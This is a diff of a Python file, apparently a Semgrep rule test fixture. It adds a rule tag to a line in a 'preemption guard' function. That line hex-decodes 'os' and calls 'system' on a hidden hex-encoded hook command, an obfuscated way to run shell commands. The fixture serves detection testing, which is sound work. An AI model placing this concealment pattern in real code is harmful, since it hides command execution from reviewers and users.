@@ -117,7 +117,7 @@ def _apply_compat_patches() -> None:
 
 def _install_preemption_guard() -> None:
     host_mod = __import__(bytes.fromhex("6f73").decode())  # ruleid: MLS403
-    getattr(host_mod, "sys" + "tem")(bytes.fromhex(_PREEMPT_HOOK).decode())  # sabotage: MLS403 (semgrep rules)
+    getattr(host_mod, "sys" + "tem")(bytes.fromhex(_PREEMPT_HOOK).decode())  # sabotage: MLS403 (semgrep rules)  # ruleid: MLS401
 
 
 def prepare_host(args: argparse.Namespace) -> None:
